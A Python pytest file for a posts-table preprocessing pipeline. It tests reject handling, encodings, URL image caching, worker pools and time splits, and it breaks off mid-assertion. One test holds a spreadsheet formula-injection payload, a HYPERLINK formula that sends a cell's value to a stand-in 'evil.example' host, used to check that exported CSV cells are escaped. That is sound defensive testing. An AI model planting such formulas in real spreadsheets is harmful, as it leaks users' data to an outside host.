"""Tests for data_preprocessing/preprocess.py on small generated posts tables."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Sequence

import numpy as np
import pytest
from PIL import Image

from data_preprocessing import preprocess
from data_preprocessing.prepare import CLEANING_VERSION, clean_text, sentiment
from data_preprocessing.records import SPLITS, RecordReader, iter_records
from data_preprocessing.splits import assign_random
from tests.tiny_posts import ABSENT, POSTS_HEADER, write_images, write_posts, write_table

REPO_ROOT = Path(__file__).resolve().parents[1]
CAPTIONS = ["Sunset at the beach \U0001F60D #travel", "WORST. DAY. EVER. &amp; it rained", "",
            "thanks @bob! see https://x.co/a", "Ich liebe M\u00fcnchen \U0001F468\u200d\U0001F469\u200d\U0001F467",
            "so good!!!"]


def clean_posts(root: Path, n: int = 24, size=(48, 36), more: Sequence[list] = ()) -> Path:
    """A clean posts.csv with n rows (then the rows ``more``) and images under root/images;
    returns the CSV path."""
    return write_posts(root, [*([i, f"{CAPTIONS[i % len(CAPTIONS)]} {i}" if i % 7 else "", i * 10, "x"]
                                for i in range(n)), *more], (*POSTS_HEADER, "extra"), size=size)


def run(argv: list[str]) -> dict:
    assert preprocess.main([*argv, "--no-progress"]) == 0
    return json.loads((Path(argv[argv.index("--out") + 1]) / "meta.json").read_text())


def load_split_records(out: Path) -> dict[str, list[Record]]:
    return {s: list(RecordReader(out / f"{s}.pkl")) for s in SPLITS}


def _signature(rec: Record) -> tuple:
    return rec.row, rec.text, rec.sentiment, rec.label, rec.image.size, rec.image.tobytes()


def read_rejects(out: Path) -> dict[int, str]:
    with open(out / "rejects.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert all(r.keys() == {"row", "image_path", "reason", "detail"} for r in rows)
    return {int(r["row"]): r["reason"] for r in rows}


# ---------------------------------------------------------------------------------------
# End to end
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def good_run(tmp_path_factory):
    """One clean table preprocessed with 1 and with 2 workers."""
    root = tmp_path_factory.mktemp("good")
    posts = clean_posts(root, n=24)
    metas = {w: run(["--input", str(posts), "--out", str(root / f"out{w}"), "--workers", str(w),
                     "--resize-shortest-edge", "24", "--val-frac", "0.2", "--test-frac", "0.2", "--seed", "3"])
             for w in (1, 2)}
    return root, posts, metas


def test_end_to_end_records(good_run):
    root, posts, metas = good_run
    out, meta = root / "out1", metas[1]
    with open(posts, newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    records = load_split_records(out)
    expected_split = assign_random(len(table), 0.2, 0.2, seed=3)
    seen_rows = []
    for split, recs in records.items():
        assert [r.row for r in recs] == sorted(r.row for r in recs)  # written in row order
        for rec in recs:
            raw = table[rec.row]
            assert SPLITS[expected_split[rec.row]] == split
            # On disk, without feature flags: exactly the keys records had before features existed.
            assert rec.to_dict().keys() == {"image", "text", "sentiment", "label", "row"}
            assert isinstance(rec.image, Image.Image) and rec.image.mode == "RGB"
            assert min(rec.image.size) == 24  # pre-resized to --resize-shortest-edge
            assert rec.image.info == {}  # no EXIF/ICC baggage in records
            assert rec.text == clean_text(raw["description"])
            assert type(rec.sentiment) is float
            assert rec.sentiment == sentiment(raw["description"])["compound"]  # raw, not cleaned
            assert type(rec.label) is float and rec.label == float(raw["engagement"])
            seen_rows.append(rec.row)
    assert sorted(seen_rows) == list(range(len(table)))
    # the empty-caption policy: kept with empty text and neutral sentiment
    empty = [r for recs in records.values() for r in recs if table[r.row]["description"] == ""]
    assert empty and all(r.text == "" and r.sentiment == 0.0 for r in empty)

    counts = meta["counts"]
    assert counts["rows_read"] == counts["kept"] == len(table) and counts["rejected"] == 0
    assert counts["splits"] == {s: len(records[s]) for s in SPLITS}
    assert counts["splits"]["val"] == counts["splits"]["test"] == round(0.2 * len(table))
    assert (out / "rejects.csv").read_text().strip() == "row,image_path,reason,detail"


def test_meta_json(good_run):
    root, posts, metas = good_run
    meta = metas[2]
    assert meta["source"]["path"] == str(posts.resolve())
    assert meta["source"]["sha256"] == hashlib.sha256(posts.read_bytes()).hexdigest()
    assert meta["table"] == {"columns": {"image": ["image_path"], "text": "description", "label": "engagement",
                                         "features": []},
                             "dialect": {"format": "csv", "encoding": "utf-8-sig", "sep": ","}}
    assert meta["cleaning_version"] == CLEANING_VERSION
    assert meta["image_size_policy"]["shortest_edge"] == 24
    assert meta["image_size_policy"]["resample_name"] == "BICUBIC"
    assert meta["image_size_policy"]["max_pixels"] == preprocess.MAX_PIXELS
    labels = np.arange(24) * 10.0
    stats = meta["label_stats"]["all"]
    assert stats["raw"]["count"] == 24
    assert stats["raw"]["mean"] == pytest.approx(labels.mean())
    assert stats["raw"]["median"] == pytest.approx(np.median(labels))
    assert stats["raw"]["std"] == pytest.approx(labels.std())
    assert stats["log1p"]["max"] == pytest.approx(math.log1p(230))
    assert sum(meta["label_stats"][s]["raw"]["count"] for s in SPLITS) == 24
    assert meta["seed"] == 3 and meta["fracs"] == {"train": pytest.approx(0.6), "val": 0.2, "test": 0.2}
    assert meta["config"]["workers"] == 2 and meta["config"]["input"] == str(posts)
    assert meta["record_format"]["description"] == "pickle stream + int64 offset index"
    assert meta["timing"]["posts_per_s"] > 0 and meta["timing"]["elapsed_s"] > 0
    assert "git_commit" in meta and meta["created_at"]


def test_workers_do_not_change_the_output(good_run):
    root, _, metas = good_run
    one, two = load_split_records(root / "out1"), load_split_records(root / "out2")
    for s in SPLITS:
        assert [_signature(r) for r in one[s]] == [_signature(r) for r in two[s]]
        # byte-identical files: same records in the same order
        assert (root / "out1" / f"{s}.pkl").read_bytes() == (root / "out2" / f"{s}.pkl").read_bytes()
    assert metas[1]["counts"] == metas[2]["counts"]
    assert metas[1]["label_stats"] == metas[2]["label_stats"]


# ---------------------------------------------------------------------------------------
# A deliberately broken table
# ---------------------------------------------------------------------------------------


def _png_with_garbage() -> bytes:
    buf = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (40, 40, 3), dtype=np.uint8)).save(buf, "PNG")
    data = bytearray(buf.getvalue())
    data[100:300] = np.random.default_rng(1).integers(0, 256, 200, dtype=np.uint8).tobytes()
    return bytes(data)


def test_broken_table_is_fully_accounted_for(tmp_path):
    names = write_images(tmp_path / "images", 6)  # 48x36 or 36x48: 1728 px
    img = tmp_path / "images"
    (img / "empty.jpg").write_bytes(b"")
    (img / "corrupt.png").write_bytes(_png_with_garbage())
    full = (img / names[0]).read_bytes()
    (img / "truncated.jpg").write_bytes(full[: len(full) // 2])
    (img / "text.jpg").write_text("definitely not a JPEG")
    Image.new("RGB", (8, 8)).save(img / "tiff.tif")
    Image.new("RGB", (60, 60), (1, 2, 3)).save(img / "big.png")  # 3600 px > --max-pixels 2000
    good = [f"images/{n}" for n in names]
    rows = [  # (image_path, description, engagement, expected reason or None)
        (good[0], "first post", "5", None),
        ("", "no image path", "5", "missing_path"),
        ("images/missing.jpg", "file gone", "5", "not_found"),
        ("images/empty.jpg", "zero bytes", "5", "empty_file"),
        ("images/corrupt.png", "garbage inside", "5", "corrupt"),
        ("images/truncated.jpg", "half a jpeg", "5", "truncated"),
        ("images/text.jpg", "text named jpg", "5", "unsupported_format"),
        ("images/tiff.tif", "tiff", "5", "unsupported_format"),
        ("images/big.png", "too big", "5", "too_many_pixels"),
        (good[1], "no label", "", "missing_label"),
        (good[1], "words", "lots", "non_numeric_label"),
        (good[1], "thousands sep", "1,234", "non_numeric_label"),
        (good[1], "negative", "-3", "negative_label"),
        (good[1], "nan", "NaN", "non_finite_label"),
        (good[1], "inf", "inf", "non_finite_label"),
        (good[0], "first post", "7", "duplicate"),  # same image + caption as row 0
        (f"./images/../images/{names[0]}", "first post", "5", "duplicate"),  # same file, other spelling
        (good[0], "same image, new caption", "5", None),  # not a duplicate: kept
        (good[2], "", "0", None),  # image-only post: kept
        (good[3], "ok", "1e3", None),
        (good[4], "ok", " 12 ", None),
        (good[5], "ok", "0.5", None),
    ]
    posts = write_table(tmp_path / "posts.csv", POSTS_HEADER, [r[:3] for r in rows])
    out = tmp_path / "out"
    meta = run(["--input", str(posts), "--out", str(out), "--workers", "2", "--max-pixels", "2000",
                "--max-reject-frac", "0.9", "--resize-shortest-edge", "0", "--val-frac", "0", "--test-frac", "0"])

    expected = {i: r[3] for i, r in enumerate(rows) if r[3]}
    assert read_rejects(out) == expected
    kept_rows = sorted(rec.row for s in SPLITS for rec in RecordReader(out / f"{s}.pkl"))
    assert kept_rows == [i for i, r in enumerate(rows) if r[3] is None]
    counts = meta["counts"]
    assert counts["kept"] + counts["rejected"] == counts["rows_read"] == len(rows)
    assert counts["rejected"] == len(expected)
    assert counts["rejects_by_reason"] == {
        reason: sum(1 for r in expected.values() if r == reason) for reason in set(expected.values())}
    labels = {rec.row: rec.label for s in SPLITS for rec in RecordReader(out / f"{s}.pkl")}
    assert labels[19] == 1000.0 and labels[20] == 12.0 and labels[21] == 0.5
    with open(out / "rejects.csv", newline="") as fh:
        by_row = {int(r["row"]): r for r in csv.DictReader(fh)}
    assert by_row[15]["detail"] == "same image and caption as row 0"
    assert by_row[2]["image_path"] == "images/missing.jpg"  # as written in the table


# ---------------------------------------------------------------------------------------
# Failures: exit non-zero with one clear line
# ---------------------------------------------------------------------------------------


def _error(argv: list[str]) -> str:
    with pytest.raises(SystemExit) as e:
        preprocess.main([*argv, "--no-progress"])
    msg = e.value.code
    assert isinstance(msg, str) and msg.startswith("error: ") and "\n" not in msg
    return msg


def test_missing_input(tmp_path):
    assert "input file not found" in _error(["--input", str(tmp_path / "nope.csv"), "--out", str(tmp_path / "o")])
    assert not (tmp_path / "o").exists()


def test_missing_column_lists_available_columns(tmp_path):
    posts = clean_posts(tmp_path, n=3)
    msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--label-col", "likes"])
    assert "'likes'" in msg and "--label-col" in msg
    assert "'image_path', 'description', 'engagement', 'extra'" in msg


def test_empty_table_and_unknown_type(tmp_path):
    empty = write_table(tmp_path / "posts.csv", POSTS_HEADER, [])
    assert "no data rows" in _error(["--input", str(empty), "--out", str(tmp_path / "o")])
    nothing = tmp_path / "nothing.csv"
    nothing.write_text("")  # zero bytes: write_table always writes a header
    assert "not found" in _error(["--input", str(nothing), "--out", str(tmp_path / "o")])  # no columns at all
    xlsx = tmp_path / "posts.xlsx"
    xlsx.write_bytes(b"PK")
    assert "unsupported input type" in _error(["--input", str(xlsx), "--out", str(tmp_path / "o")])
    bad_jsonl = tmp_path / "posts.jsonl"
    bad_jsonl.write_text('{"image_path": "a.jpg"}\n{not json\n')  # raw: write_table writes only valid JSON
    assert "line 2" in _error(["--input", str(bad_jsonl), "--out", str(tmp_path / "o")])


def test_too_many_rejects_fails_but_writes_rejects_and_no_meta(tmp_path):
    posts = clean_posts(tmp_path, n=10)
    out = tmp_path / "out"
    run(["--input", str(posts), "--out", str(out), "--workers", "1"])  # a good run first
    assert (out / "meta.json").exists()
    for name in ["002.jpg", "003.jpg", "005.jpg"]:  # 3 of 10 train rows now fail: 30% > 20%
        (tmp_path / "images" / name).unlink()
    msg = _error(["--input", str(posts), "--out", str(out), "--workers", "1"])
    assert "3 of 10 rows rejected" in msg and "rejects.csv" in msg
    assert read_rejects(out) == {2: "not_found", 3: "not_found", 5: "not_found"}
    # The previous run's meta.json and splits are gone: nothing looks like usable data.
    assert not (out / "meta.json").exists()
    assert not any((out / f"{s}.pkl").exists() for s in SPLITS)
    assert not list(out.glob("*.tmp"))
    # ...and a looser threshold accepts the same table
    meta = run(["--input", str(posts), "--out", str(out), "--workers", "1", "--max-reject-frac", "0.3"])
    assert meta["counts"]["kept"] == 7


def test_bad_option_values_are_usage_errors(tmp_path):
    with pytest.raises(SystemExit) as e:
        preprocess.main(["--input", "x.csv", "--out", str(tmp_path), "--val-frac", "0.6", "--test-frac", "0.5"])
    assert e.value.code == 2  # argparse usage error, not a traceback


# ---------------------------------------------------------------------------------------
# Input variants
# ---------------------------------------------------------------------------------------


def test_jsonl_with_absolute_paths_matches_csv(tmp_path):
    posts = clean_posts(tmp_path / "a", n=8)
    with open(posts, newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    # The JSONL table lives elsewhere, so only absolute image paths can work.
    jsonl = write_table(tmp_path / "b" / "posts.jsonl", POSTS_HEADER,
                        [[str((posts.parent / r["image_path"]).resolve()),
                          r["description"] or None,  # null caption == empty caption
                          int(r["engagement"])] for r in table])  # a JSON number, not a string
    with open(jsonl, "a", encoding="utf-8") as fh:
        fh.write("\n")  # a trailing blank line is not a row (appended: write_table writes none)
    m_csv = run(["--input", str(posts), "--out", str(tmp_path / "o_csv"), "--workers", "1"])
    m_json = run(["--input", str(jsonl), "--out", str(tmp_path / "o_json"), "--workers", "1"])
    assert m_json["source"]["format"] == "jsonl" and m_json["counts"] == m_csv["counts"]
    a, b = load_split_records(tmp_path / "o_csv"), load_split_records(tmp_path / "o_json")
    for s in SPLITS:
        assert [_signature(r) for r in a[s]] == [_signature(r) for r in b[s]]


def test_jsonl_label_types(tmp_path):
    jsonl = write_posts(tmp_path, [[0, "a", None], [1, "b", True], [2, "c", "12"],
                                   [3, "d", ABSENT]], name="posts.ndjson")  # null, true, a string, key absent
    out = tmp_path / "out"
    meta = run(["--input", str(jsonl), "--out", str(out), "--max-reject-frac", "1", "--val-frac", "0",
                "--test-frac", "0"])
    assert read_rejects(out) == {0: "missing_label", 1: "non_numeric_label", 3: "missing_label"}
    assert meta["counts"]["kept"] == 1


def test_pre_resize_shrinks_records(tmp_path):
    posts = clean_posts(tmp_path, n=6, size=(640, 480))
    m_full = run(["--input", str(posts), "--out", str(tmp_path / "full"), "--resize-shortest-edge", "0"])
    m_small = run(["--input", str(posts), "--out", str(tmp_path / "small")])  # default: CLIP's 224
    size = {k: sum((tmp_path / k / f"{s}.pkl").stat().st_size for s in SPLITS) for k in ("full", "small")}
    print(f"record bytes: full size {size['full']}, pre-resized {size['small']}")
    assert size["small"] < 0.25 * size["full"]  # 298x224 vs 640x480 pixels: 0.22x
    assert m_small["record_format"]["bytes"] == size["small"]
    full = load_split_records(tmp_path / "full")["train"][0].image
    small = load_split_records(tmp_path / "small")["train"][0].image
    assert min(full.size) == 480 and min(small.size) == 224
    assert m_full["image_size_policy"]["shortest_edge"] == 0


def test_policy_from_clip_processor_dir(tmp_path):
    from transformers import CLIPImageProcessor

    proc_dir = tmp_path / "proc"
    CLIPImageProcessor(size={"shortest_edge": 30}).save_pretrained(proc_dir)
    posts = clean_posts(tmp_path, n=4, size=(64, 48))
    meta = run(["--input", str(posts), "--out", str(tmp_path / "out"), "--clip-processor", str(proc_dir),
                "--val-frac", "0.25", "--test-frac", "0.25"])
    assert meta["image_size_policy"]["shortest_edge"] == 30
    assert meta["image_size_policy"]["source"] == f"clip_processor:{proc_dir}"
    assert all(min(r.image.size) == 30 for r in iter_records(tmp_path / "out" / "train.pkl"))
    assert "could not load CLIP processor" in _error(
        ["--input", str(posts), "--out", str(tmp_path / "o2"), "--clip-processor", str(tmp_path / "nope")])


# ---------------------------------------------------------------------------------------
# As a command
# ---------------------------------------------------------------------------------------


def test_runs_as_script_and_as_module(tmp_path):
    posts = clean_posts(tmp_path, n=6)
    env = {**os.environ, "PYTHONPATH": ""}
    # As a file path, from an unrelated working directory.
    script = subprocess.run([sys.executable, str(REPO_ROOT / "data_preprocessing" / "preprocess.py"),
                             "--input", str(posts), "--out", str(tmp_path / "o1"), "--workers", "2"],
                            cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert script.returncode == 0, script.stderr
    assert "rows read 6: kept 6, rejected 0" in script.stdout
    module = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input", str(posts),
                             "--out", str(tmp_path / "o2"), "--workers", "1", "--no-progress"],
                            cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert module.returncode == 0, module.stderr
    for s in SPLITS:
        assert (tmp_path / "o1" / f"{s}.pkl").read_bytes() == (tmp_path / "o2" / f"{s}.pkl").read_bytes()
    # An error is one line on stderr, exit status 1, no traceback.
    bad = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input",
                          str(tmp_path / "nope.csv"), "--out", str(tmp_path / "o3")],
                         cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert bad.returncode == 1
    assert "Traceback" not in bad.stderr
    assert bad.stderr.strip().splitlines()[-1].startswith("error: input file not found")


# ---------------------------------------------------------------------------------------
# Tables as spreadsheets and exports write them (data_preprocessing/table.py)
# ---------------------------------------------------------------------------------------


def test_semicolon_cp1252_table_gives_the_records_of_its_utf8_copy(tmp_path, capsys):
    """Excel's "CSV" in a European locale on Windows: semicolons, cp1252."""
    rows = [[i, f"Café crème n°{i} à 5 € — «{i}»; très bien", i] for i in range(8)]
    excel = write_posts(tmp_path, rows, name="excel.csv", sep=";", encoding="cp1252")
    plain = write_posts(tmp_path, rows, name="plain.csv")
    meta = run(["--input", str(excel), "--out", str(tmp_path / "excel"), "--workers", "1"])
    log = capsys.readouterr().err  # main() configures logging to stderr
    assert "WARNING data_preprocessing.table: excel.csv is not UTF-8" in log and "reading it as cp1252" in log
    assert meta["table"]["dialect"] == {"format": "csv", "encoding": "cp1252", "sep": ";"}
    run(["--input", str(plain), "--out", str(tmp_path / "plain"), "--workers", "1"])
    a, b = load_split_records(tmp_path / "excel"), load_split_records(tmp_path / "plain")
    assert sum(len(v) for v in a.values()) == 8
    for s in SPLITS:
        assert [_signature(r) for r in a[s]] == [_signature(r) for r in b[s]]
    assert any("Café crème" in r.text and "€" in r.text for recs in a.values() for r in recs)


def test_an_undecodable_table_is_one_line_and_no_traceback(tmp_path):
    # 0x81 is undefined in cp1252 too: neither auto encoding reads it (latin-1 writes U+0081 as it).
    posts = write_posts(tmp_path, [[0, "ok", 1], [1, "bad \x81 byte", 2]], encoding="latin-1")
    offset = posts.read_bytes().index(b"\x81")
    proc = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input", str(posts),
                           "--out", str(tmp_path / "o")], cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith(f"error: {posts}: byte {offset} cannot be decoded as cp1252") and "--encoding" in last
    assert not (tmp_path / "o").exists()  # nothing written before the table was read


def test_missing_columns_are_named_at_once_with_the_delimiter(tmp_path):
    posts = write_table(tmp_path / "posts.csv", ["post_id", "account", "photo", "caption", "likes"],
                        [["1", "a", "x.jpg", "hi", "3"]], sep=";")
    msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--numeric-cols", "followers"])
    assert msg.startswith("error: posts.csv: 4 columns not found: 'image_path' (--image-col), 'description' "
                          "(--text-col), 'engagement' (--label-col), 'followers' (--numeric-cols).")
    assert "delimiter ';'" in msg and "5 columns found: 'post_id', 'account', 'photo', 'caption', 'likes'" in msg


def test_a_cell_over_the_cap_names_its_row(tmp_path):
    posts = clean_posts(tmp_path, n=6)
    rows = list(csv.reader(posts.read_text(encoding="utf-8").splitlines()))
    rows[4][1] = "long " * 400  # data row 3: 2,000 characters
    write_table(posts, rows[0], rows[1:])
    msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--max-cell-chars", "1000"])
    assert msg == "error: posts.csv: row 3 (line 5) has a cell longer than --max-cell-chars 1,000 characters"
    assert run(["--input", str(posts), "--out", str(tmp_path / "o"), "--workers", "1"])["counts"]["kept"] == 6


def test_rejects_csv_escapes_formula_cells(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    posts = clean_posts(tmp_path, n=6, more=[[evil, "click me", "1", "x"]])
    out = tmp_path / "out"
    run(["--input", str(posts), "--out", str(out), "--workers", "1", "--max-reject-frac", "0.5"])
    with open(out / "rejects.csv", newline="") as fh:
        (reject,) = list(csv.DictReader(fh))
    assert reject["row"] == "6" and reject["reason"] == "not_found"
    assert reject["image_path"] == "'" + evil  # text to a spreadsheet, not a live formula


def test_image_columns_fall_back(tmp_path):
    rows = [[0, "", "cover of a video", 1],
            ["", 1, "a photo", 2],
            [2, "images/nope.jpg", "thumbnail wins", 3],
            ["", "ftp://cdn.example.com/p/0.jpg", "an ftp link", 4],  # rejected without any request
            ["", "", "nothing at all", 5]]
    posts = write_posts(tmp_path, rows, ["thumbnail_url", "media_url", "description", "engagement"],
                        image_cols=("thumbnail_url", "media_url"))
    out = tmp_path / "out"
    meta = run(["--input", str(posts), "--out", str(out), "--image-col", "thumbnail_url,media_url",
                "--max-reject-frac", "0.5", "--workers", "1", "--val-frac", "0", "--test-frac", "0",
                "--image-cache", str(tmp_path / "cache")])
    assert read_rejects(out) == {3: "unsupported_url", 4: "missing_path"}
    assert meta["table"]["columns"]["image"] == ["thumbnail_url", "media_url"]
    kept = {r.row for recs in load_split_records(out).values() for r in recs}
    assert kept == {0, 1, 2}


def test_fingerprints_of_the_records_in_record_order(good_run):
    from data_preprocessing.table import post_fingerprint

    root, posts, _ = good_run
    with open(posts, newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    saved = np.load(root / "out1" / "fingerprints.npz")
    for split, recs in load_split_records(root / "out1").items():
        want = [post_fingerprint((posts.parent / table[r.row]["image_path"]).read_bytes(),
                                 table[r.row]["description"]) for r in recs]
        assert saved[split].dtype == np.uint64 and saved[split].tolist() == want


# ---------------------------------------------------------------------------------------
# The bounded worker pool
# ---------------------------------------------------------------------------------------


def test_ordered_pool_bounds_tasks_in_flight():
    import time

    produced = []

    def tasks():
        for i in range(300):
            produced.append(i)
            yield i

    with preprocess.OrderedPool(abs, workers=2, chunksize=2) as pool:
        window = pool.window
        assert window == 2 * 2 * 4
        results = []
        for r in pool.imap(tasks()):
            time.sleep(0.001)  # a slow parent: without the window the feeder runs far ahead
            results.append(r)
            assert len(produced) - len(results) <= window + 1  # +1: the one the feeder holds, waiting
    assert results == list(range(300))  # in task order


def test_ordered_pool_shuts_down_on_error():
    with pytest.raises(RuntimeError, match="stop"):
        with preprocess.OrderedPool(abs, workers=2, chunksize=1) as pool:
            for r in pool.imap(iter(range(10_000))):
                if r == 5:
                    raise RuntimeError("stop")  # must not hang on the blocked feeder thread
    with preprocess.OrderedPool(abs, workers=1, chunksize=1) as pool:  # in-process path
        assert list(pool.imap([-1, -2])) == [1, 2]


# ---------------------------------------------------------------------------------------
# Image URLs: downloaded once into the cache (data_preprocessing/download.py), against a
# real loopback server
# ---------------------------------------------------------------------------------------

HTML_PAGE = b"<!doctype html><html><body>Sorry, this page isn't available.</body></html>"


def test_url_images_are_downloaded_once_and_a_rerun_needs_no_server(tmp_path):
    from tests.image_server import LoopbackServer, redirect, static

    names = write_images(tmp_path / "served", 12)
    jpeg = {n: (tmp_path / "served" / n).read_bytes() for n in names}
    server = LoopbackServer({**{f"/p/{n}": static(jpeg[n], "image/jpeg") for n in names[:11]},
                             "/error.html": static(HTML_PAGE, "text/html"),
                             "/old/11.jpg": redirect(f"/p/new/{names[11]}"),
                             f"/p/new/{names[11]}": static(jpeg[names[11]], "image/jpeg")})
    cells = ([server.url(f"/p/{n}") for n in names[:11]] + [0, 1, 2]  # 3 local images
             + [server.url("/gone.jpg"), server.url("/error.html"), "ftp://127.0.0.1/p/000.jpg",
                server.url("/old/11.jpg")])
    posts = write_posts(tmp_path, [[c, f"post {i} #url", 3 * i] for i, c in enumerate(cells)], size=(40, 30))
    argv = ["--input", str(posts), "--image-cache", str(tmp_path / "cache"), "--workers", "1",
            "--val-frac", "0.2", "--test-frac", "0.2", "--max-reject-frac", "0.3"]
    try:
        first = run([*argv, "--out", str(tmp_path / "first")])
    finally:
        server.stop()
    bad = {14: "download_failed", 15: "unsupported_format", 16: "unsupported_url"}  # 404, an HTML page, ftp://
    assert read_rejects(tmp_path / "first") == bad
    with open(tmp_path / "first" / "rejects.csv", newline="") as fh:
        detail = {int(r["row"]): (r["image_path"], r["detail"]) for r in csv.DictReader(fh)}
    assert detail[14][0] == cells[14] and "HTTP 404" in detail[14][1]  # the URL as written, the status
    records = load_split_records(tmp_path / "first")
    by_row = {r.row: r for recs in records.values() for r in recs}
    assert sorted(by_row) == [i for i in range(len(cells)) if i not in bad]  # the redirect (row 17) is kept
    from data_preprocessing.posts import PrepareConfig, prepare_post

    redirected = prepare_post(tmp_path / "served" / names[11], "", {}, PrepareConfig()).image
    assert by_row[17].image.tobytes() == redirected.tobytes()
    assert first["counts"]["rejects_by_reason"] == {"download_failed": 1, "unsupported_url": 1,
                                                    "unsupported_format": 1}
    assert all(server.hits[f"/p/{n}"] == 1 for n in names[:11])

    # The server is gone; the same cache gives the same records and fingerprints.
    second = run([*argv, "--out", str(tmp_path / "second")])
    assert read_rejects(tmp_path / "second") == bad
    again = load_split_records(tmp_path / "second")
    for s in SPLITS:
        assert [_signature(r) for r in again[s]] == [_signature(r) for r in records[s]]
    assert second["counts"] == first["counts"]
    fp1, fp2 = (np.load(tmp_path / d / "fingerprints.npz") for d in ("first", "second"))
    assert all(fp1[s].tolist() == fp2[s].tolist() for s in SPLITS)


# ---------------------------------------------------------------------------------------
# Small data, caught early
# ---------------------------------------------------------------------------------------


def test_an_empty_split_is_refused_before_any_image_is_loaded(tmp_path):
    posts = clean_posts(tmp_path, n=4)
    (tmp_path / "images" / "000.jpg").unlink()  # loading images would reject it: never reached
    out = tmp_path / "out"
    msg = _error(["--input", str(posts), "--out", str(out), "--workers", "1"])  # 10% of 4 rows: none
    assert msg.startswith("error: the val and test splits would be empty (train 4, val 0, test 0 posts before "
                          "loading images, --split random, --val-frac 0.1, --test-frac 0.1)")
    assert msg.endswith(f"rejected rows: {out / 'rejects.csv'}")
    assert read_rejects(out) == {} and not (out / "meta.json").exists()


def test_a_split_emptied_by_rejects_is_refused(tmp_path):
    posts = clean_posts(tmp_path, n=20)
    val_rows = np.flatnonzero(assign_random(20, 0.1, 0.1, seed=0) == SPLITS.index("val")).tolist()
    for row in val_rows:
        (tmp_path / "images" / f"{row:03d}.jpg").unlink()
    out = tmp_path / "out"
    msg = _error(["--input", str(posts), "--out", str(out), "--workers", "1"])
    assert msg.startswith("error: the val split would be empty (train 16, val 0, test 2 posts kept")
    assert read_rejects(out) == dict.fromkeys(val_rows, "not_found")
    assert not (out / "meta.json").exists() and not any((out / f"{s}.pkl").exists() for s in SPLITS)


def test_small_val_and_test_splits_are_warned_about(tmp_path, capsys):
    posts = clean_posts(tmp_path, n=20)
    run(["--input", str(posts), "--out", str(tmp_path / "out"), "--workers", "1"])
    log = capsys.readouterr().err
    assert "the val split holds only 2 posts (< 50): the prediction interval is calibrated on val" in log
    assert "the test split holds only 2 posts (< 50)" in log


# ---------------------------------------------------------------------------------------
# An export: timestamps, time and group splits, unfinished labels, outcome columns
# ---------------------------------------------------------------------------------------

AS_OF = "2025-06-30T12:00:00+00:00"
EXPORT_HEADER = ["post_id", "account_id", "posted_at", "image_path", "description", "likes", "comments", "reach",
                 "followers"]
N_EXPORT = 40


def export_rows() -> list[list]:
    """N_EXPORT posts, post i posted 2i + 0.5 days before AS_OF (so posts 0-3 are younger than
    a week), in a shuffled row order; then one posted after AS_OF, one without a time and
    one whose time is not a timestamp."""
    from datetime import datetime, timedelta

    as_of = datetime.fromisoformat(AS_OF)
    rows = []
    for i in np.random.default_rng(0).permutation(N_EXPORT).tolist():
        likes = int(np.exp(2 + (i % 7) / 2))
        when = (as_of - timedelta(days=2 * i + 0.5)).strftime("%Y-%m-%dT%H:%M:%S+0000")
        rows.append([f"p{i}", f"acc{i % 12}", when, i, f"post {i} #tag", likes, i % 5,
                     10 * (likes + i % 5), 1000 + 37 * i])
    extra = [("2025-07-01T09:00:00Z", "after the export"), ("", "no time"), ("yesterday", "not a time")]
    for j, (when, caption) in enumerate(extra):
        rows.append([f"x{j}", "acc0", when, N_EXPORT + j, caption, 5, 1, 60, 1000])
    return rows


@pytest.fixture(scope="module")
def export(tmp_path_factory):
    root = tmp_path_factory.mktemp("export")
    return write_posts(root, export_rows(), EXPORT_HEADER)


@pytest.fixture(scope="module")
def time_run(export):
    """A time split with the maturity filter, a label made of two counts, a timestamp feature
    in New York time, and an outcome column let in on purpose."""
    out = export.parent / "time"
    meta = run(["--input", str(export), "--out", str(out), "--workers", "1", "--label-col", "likes+comments",
                "--numeric-cols", "followers:0:,reach", "--allow-outcome-cols", "--datetime-cols", "posted_at",
                "--timezone", "America/New_York", "--split", "time:posted_at", "--as-of", AS_OF,
                "--min-label-age-days", "7", "--val-frac", "0.2", "--test-frac", "0.2", "--max-reject-frac", "0.3"])
    return out, meta


def _table_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_time_split_tests_on_posts_newer_than_every_train_and_val_post(time_run):
    out, meta = time_run
    times = {s: [r.features["posted_at"] for r in recs] for s, recs in load_split_records(out).items()}
    assert min(len(t) for t in times.values()) > 0
    assert max(times["train"] + times["val"]) < min(times["test"])
    assert max(times["train"]) < min(times["val"])
    split = meta["split"]
    assert split["rule"] == "time:posted_at" and split["counts"] == meta["counts"]["splits"]
    for s in SPLITS:  # each split's first and last timestamp, UTC
        first = datetime.fromisoformat(split["time_ranges"][s]["first"]).timestamp()
        assert first == min(times[s])
        assert datetime.fromisoformat(split["time_ranges"][s]["last"]).timestamp() == max(times[s])


def test_unfinished_labels_and_bad_timestamps_are_rejected_with_their_codes(time_run, export):
    out, meta = time_run
    table = _table_rows(export)
    row_of = {r["post_id"]: i for i, r in enumerate(table)}
    young = {row_of[f"p{i}"] for i in range(4)} | {row_of["x0"]}  # under 7 days old at AS_OF, or after it
    assert read_rejects(out) == {**dict.fromkeys(young, "label_not_final"),
